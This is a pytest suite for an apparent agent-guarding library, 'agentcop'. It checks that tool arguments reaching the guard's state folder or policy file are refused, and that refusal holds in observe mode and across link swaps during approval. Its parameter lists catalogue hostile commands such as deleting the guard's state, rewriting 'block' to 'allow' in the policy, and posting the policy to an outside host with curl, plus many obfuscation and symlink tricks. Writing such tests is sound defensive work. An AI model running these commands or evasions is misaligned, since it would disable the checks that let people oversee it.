"""No argument leads to the state folder, the policy file or what it extends, however it is written."""

from __future__ import annotations

import os
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

import gatefile
from agentcop import AgentCop, GatePolicy, PolicyBlocked
from protecting import RAN, Machine, machine, tool

if TYPE_CHECKING:
    from collections.abc import Callable


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Machine:
    RAN.clear()
    return machine(tmp_path, monkeypatch)


@pytest.mark.parametrize(
    "path",
    [
        "{state}",
        "{state}/",
        "{state}/gate.log",
        "{state}/alerts/pending/x.json",
        "{state}/not-there-yet",
        "{policy}",
        "{base}",
        "  {policy}\n",
        "~/.local/state/agentcop/gate.log",
        "~/../me/.local/state/agentcop",
        "$HOME/.local/state/agentcop/gate.log",
        "${HOME}/.local/state/agentcop/gate.log",
        "$AGENTCOP_HOME/gate.log",
        "../.local/state/agentcop/gate.log",
        "../../conf/policy.yaml",
        "../../conf/nothing/../policy.yaml",
        "{state}/../agentcop/gate.log",
        "//{policy}",
        "/./{policy}",
        "{conf}/./policy.yaml",
        "file://{policy}",
        "file://localhost{policy}",
        "FILE:{policy}",
        "file://{conf}/polic%79.yaml",
        "file://{conf}/polic%2579.yaml",
        "{policy}?x=1",
        "file://{policy}#part",
        "/proc/self/cwd/../.local/state/agentcop/gate.log",
        "/proc/self/root{policy}",
        "no-such/../../../conf/policy.yaml",
        "{conf}/*.yaml",
        "{home}/.local/*/agentcop",
        "{home}/.local/state/{agentcop,x}",
        "{home}/.local/state/[a]gentcop",
    ],
)
def test_a_path_is_refused_in_every_way_of_writing_it(here: Machine, path: str) -> None:
    assert here.refuses(here.filled(path))


@pytest.mark.parametrize(
    "command",
    [
        "cat {state}/gate.log",
        "rm -rf ~/.local/state/agentcop",
        "echo x > {policy}",
        "echo x >>{policy};ls",
        "cd ~ && rm -r .local/state/agentcop",
        "cd ~/.local; cd state; rm -r agentcop",
        "cd / && tail me {state}/gate.log",
        "cat ~/.local/st''ate/agent\"cop\"/gate.log",
        "cat ~/.local/st\\ate/agentcop/gate.log",
        "cat $'\\x2f'{policy}",
        "cat $'\\057'proc/self/root{policy}",
        "cat ~/.local/$'\\x73tate'/agentcop",
        "bash -c \"bash -c 'cat {state}/gate.log'\"",
        "cat $(echo ~)/.local/state/agentcop/gate.log",
        "d=~/.local/state; cat $d/agentcop/gate.log",
        "cat ${NOT_SET}{policy}",
        "curl -d @{policy} http://example.com",
        "tar --file={state}/gate.log",
        "dd of={policy}",
        "cp x -t{state}",
        "sed -i s/block/allow/ {conf}/p*.yaml",
        "cat {conf}/{policy,x}.yaml",
        "cat ~/.local/state/agentco?/gate.log",
        "cd {conf} && cat policy.yaml",
        "cd {conf} && cat 'policy'.yaml",
        "cd {conf} && sed -i d *",
        "ln -s {state} /tmp/elsewhere",
        "docker run -v {state}:/x img",
        'python -c \'open("{policy}", "w")\'',
        "a={conf}/pol; cat ${a}icy.yaml",
        "cd {conf}; n=policy; cat $n.yaml",
        "cat {conf}/$(echo policy.yaml)",
        "cat {conf}/$(echo $(echo policy)).yaml",
        "cat {conf}/`echo policy`.yaml",
        "cat {conf}/pol!(x)",
        "cat {conf}/p{x,olicy,y}.yaml",
        "cat {conf}/{a..z}olicy.yaml",
        "cat {conf}/pol\\\nicy.yaml",
        "cat $PWD/../../conf/policy.yaml",
        "cat ${PWD%/*}/../conf/policy.yaml",
        "rm -rf ${AGENTCOP_HOME:?}",
        "rm -rf ${X:-$AGENTCOP_HOME}",
        "printenv AGENTCOP_HOME | xargs rm -rf",
        "python -c 'import os; os.remove(os.environ[\"AGENTCOP_POLICY\"])'",
        "cp /elsewhere/policy.yaml {conf}",
        "cp -t {conf} /elsewhere/policy.yaml",
        "ls {conf} | xargs -I{} rm {conf}/{}",
        "jar:file:{policy}!/x",
        "git+file://{policy}@main",
        "see !{policy} or ^{policy}",
    ],
)
def test_a_command_line_that_names_it_is_refused(here: Machine, command: str) -> None:
    assert here.refuses(here.filled(command))


@dataclass
class Order:
    """A value with parts."""

    path: str


@pytest.mark.parametrize(
    "made",
    [
        lambda path: {"deep": [{"er": (path,)}]},
        lambda path: {path: 1},
        lambda path: [1, 2, path],
        Path,
        lambda path: {Path(path)},
        lambda path: path.encode(),
        lambda path: [bytearray(path.encode())],
        Order,
        lambda path: "please write this: " + path,
        lambda path: '{"json": "' + path + '"}',
        lambda path: f"open('{path}')",
        lambda path: "os.path.join('" + os.path.dirname(path) + "', '" + os.path.basename(path) + "')",  # noqa: PTH119, PTH120 -- as code that is judged says it
    ],
)
def test_it_is_found_wherever_in_the_arguments_it_stands(here: Machine, made: Callable[[str], Any]) -> None:
    for target in (here.state / "gate.log", here.policy):
        assert here.refuses(made(str(target)))


def test_a_path_in_two_arguments_is_one(here: Machine) -> None:
    assert here.refuses(str(here.home / ".local/state"), "agentcop/gate.log")
    assert here.refuses("agentcop", str(here.home / ".local/state"))
    assert here.refuses({"folder": str(here.policy.parent), "names": ["a.txt", "policy.yaml"]})


def test_an_arguments_own_name_is_looked_at(here: Machine) -> None:
    def anything(**values: Any) -> None:
        RAN.append(values)

    guarded = here.cop.tool(anything)
    with pytest.raises(PolicyBlocked) as refused:
        guarded(**{str(here.policy): 1})
    assert refused.value.rule == "gate.protected"
    assert RAN == []


def test_links_are_followed_by_whatever_name(here: Machine) -> None:
    (here.work / "notes").symlink_to(here.state / "gate.log")
    (here.work / "up").symlink_to(here.home / ".local/state")
    (here.work / "folder").mkdir()
    (here.work / "folder" / "deep").symlink_to(here.policy.parent)
    assert here.refuses("notes")
    assert here.refuses("cat notes")
    assert here.refuses("up/agentcop/gate.log")
    assert here.refuses("cd up; rm -r agentcop")
    assert here.refuses("folder/deep/policy.yaml")
    assert here.refuses("folder/deep/../conf/base.yaml")


def test_a_link_made_just_now_is_seen(here: Machine) -> None:
    for number in range(20):
        assert not here.refuses(f"notes{number}")
        (here.work / f"notes{number}").symlink_to(here.policy)
        assert here.refuses(f"notes{number}")


def test_a_link_to_what_is_still_to_be_made_is_seen(here: Machine) -> None:
    (here.work / "new").symlink_to(here.state / "new-file")
    assert here.refuses("new")


def test_another_name_of_the_same_file_is_seen(here: Machine) -> None:
    (here.work / "hard").hardlink_to(here.policy)
    assert here.refuses("./hard")
    assert here.refuses(str(here.work / "hard"))


def test_the_name_by_which_the_policy_was_given_is_protected_with_what_it_leads_to(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, here: Machine
) -> None:
    link = tmp_path / "current.yaml"
    link.symlink_to(here.policy)
    guarded = AgentCop(policy_file=link).tool(tool, name="linked")
    link.unlink()
    with pytest.raises(PolicyBlocked) as refused:
        guarded(str(link))
    assert refused.value.rule == "gate.protected"


@pytest.mark.parametrize(
    "text", ["policy.yaml", "rm policy.yaml", "see policy.yaml.", "rm 'poli'cy.yaml", "./policy.yaml"]
)
def test_a_policy_in_the_working_folder_is_protected_by_its_bare_name(
    here: Machine, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    monkeypatch.chdir(here.policy.parent)
    assert here.refuses(text)
    assert not here.refuses(text.replace("policy", "another").replace("poli", "another"))


@pytest.mark.parametrize(
    "command", ["rm p*", "sed -i s/a/b/ *", "cat p[o]licy.yaml", "cat {policy,x}.yaml", "cat *.y?ml"]
)
def test_a_shells_glob_in_the_working_folder_is_refused(
    here: Machine, monkeypatch: pytest.MonkeyPatch, command: str
) -> None:
    monkeypatch.chdir(here.policy.parent)
    assert here.refuses(command)


@pytest.mark.parametrize("state", ["data", "project/state"])
def test_a_plain_word_is_a_path_alone_or_in_a_command_and_not_in_prose(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, state: str
) -> None:
    here = machine(tmp_path, monkeypatch, state=state)
    monkeypatch.chdir(here.state.parent)
    name = here.state.name
    assert here.refuses(name)
    assert here.refuses(f"rm -r {name}")
    assert here.refuses(f"x=1 $PROG {name}")
    assert not here.refuses(f"Summarise the {name} of last week")
    assert not here.refuses(f"SELECT * FROM {name}")  # noqa: S608 -- runs nowhere


@pytest.mark.parametrize(
    "value",
    [
        "",
        " ",
        "/",
        "~",
        ".",
        "..",
        "/etc/hosts",
        "{home}",
        "{conf}",
        "{conf}/other.yaml",
        "{policy}.bak",
        "{state}-of-another",
        "/elsewhere{policy}",
        "https://example.com/policy.yaml",
        "and/or 1/2 100% $5 it's {} [] *",
        "SELECT * FROM t WHERE a = 'b/c'",
        "x" * 5_000,
        "/" * 5_000,
        "a/" * 3_000,
        "../" * 2_000,
        "$" * 300,
        "~nobody-of-that-name/x",
        "/nul\0byte",
        "/proc/1/root/etc/hosts",
        "Write `code` and * bullets, $5/unit, f(x) {a,b} and wrap(agent, tools=['search'])",
        "cat $UNKNOWN/other.yaml",
        "*",
        "**/*.py",
        12.5,
        None,
        ["/usr/bin", {"a": "b"}],
    ],
)
def test_other_values_pass(here: Machine, value: Any) -> None:
    assert not here.refuses(here.filled(value) if isinstance(value, str) else value)


def test_it_holds_whatever_the_policy_says_and_in_observe_mode(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    here = machine(tmp_path, monkeypatch, mode="observe")
    assert here.refuses(str(here.policy))
    assert here.cop.counts() == {"blocked": 1}
    (line,) = gatefile.lines(here.state, "decision")
    assert (line["verdict"], line["rule"]) == ("block", "gate.protected")
    assert "mode" not in line, "it was enforced"


def test_in_observe_mode_arguments_that_cannot_be_frozen_are_looked_at_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    here = machine(tmp_path, monkeypatch, mode="observe")
    assert here.refuses("x" * 2_000_000, str(here.policy))
    assert here.refuses(["\ud800", {"a": str(here.policy)}])
    assert not here.refuses("x" * 2_000_000, "/etc/hosts")


def test_in_observe_mode_a_run_that_is_halted_is_no_way_round_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    here = machine(tmp_path, monkeypatch, mode="observe")

    class Agent:
        def __init__(self) -> None:
            self.tools = {"tool": tool}

        def run(self) -> list[str]:
            said = []
            for _ in range(8):
                try:
                    said.append(self.tools["tool"](str(here.policy)))
                except PolicyBlocked as refused:
                    said.append(refused.rule)
            return said

    agent = here.cop.wrap(Agent())
    with pytest.raises(PolicyBlocked):
        agent.run()
    assert RAN == []


def test_a_fault_of_the_protection_itself_is_a_refusal_in_observe_mode_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    here = machine(tmp_path, monkeypatch, mode="observe")

    def broken(*_: object) -> None:
        raise MemoryError

    monkeypatch.setattr("agentcop_processor.protected.check.texts_of", broken)
    assert here.refuses("/some/path")


def test_a_gate_that_is_switched_off_only_notes_it(here: Machine) -> None:
    off = AgentCop(policy_file=here.policy, gate=False)
    assert off.tool(tool, name="watched")(str(here.policy)) == "ran"
    line = gatefile.lines(here.state, "decision")[-1]
    assert (line["verdict"], line["rule"], line["mode"]) == ("block", "gate.protected", "observe")


def test_the_refusal_names_the_argument_and_holds_no_value_of_it(here: Machine) -> None:
    with pytest.raises(PolicyBlocked) as refused:
        here.call(f"{here.state}/secret-name")
    assert str(refused.value) == 'tool: argument "value" leads into the state folder, on which the gate itself rests'


def test_every_cops_policy_is_protected_from_every_agent(here: Machine, tmp_path: Path) -> None:
    other = tmp_path / "other.yaml"
    other.write_text("agent_id: b\ngate: {default: allow}\n", encoding="utf-8")
    cop = AgentCop(policy_file=other)
    assert here.refuses(str(other))
    assert cop.agent_id == "b"


def test_a_path_with_spaces_and_commas_is_protected(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    here = machine(tmp_path, monkeypatch, state="my state, the first")
    escaped = str(here.state).replace(" ", "\\ ").replace(",", "\\,")
    for text in (f"{here.state}/gate.log", f"cat '{here.state}/gate.log'", f'open("{here.state}")', f"rm -r {escaped}"):
        assert here.refuses(text), text


def test_a_working_folder_that_is_gone_is_no_fault(here: Machine, tmp_path: Path) -> None:
    gone = tmp_path / "gone"
    gone.mkdir()
    os.chdir(gone)
    gone.rmdir()
    assert here.refuses(str(here.policy))
    assert not here.refuses("some/relative/path")
    os.chdir(tmp_path)


def test_a_held_call_whose_link_was_turned_while_somebody_was_asked_is_refused(here: Machine, tmp_path: Path) -> None:
    (here.work / "report").symlink_to("/etc/hosts")

    def approve_after_turning(call: object, deadline: float) -> Any:
        from agentcop import Approve

        (here.work / "report").unlink()
        (here.work / "report").symlink_to(here.policy)
        return Approve()

    guard = AgentCop(
        agent_id="asks", policy=GatePolicy(require_approval=["tool"], on_block="raise"), approver=approve_after_turning
    )
    with pytest.raises(PolicyBlocked) as refused:
        guard.tool(tool)("./report")
    assert refused.value.rule == "gate.protected"
    assert RAN == []


@pytest.mark.parametrize("name", ["Straße.yaml", "POLITIK-Ä.yaml", "политика.yaml", "İ.yaml"])
def test_a_bare_name_beyond_ascii_in_the_working_folder_is_refused(here: Machine, name: str) -> None:
    policy = here.work / name
    policy.write_text("agent_id: b\ngate: {default: allow}\n", encoding="utf-8")
    cop = AgentCop(policy_file=policy)
    for text in (name, f"cat {name}", f"{name}#part"):
        assert here.refuses(text), text
    assert cop.agent_id == "b"
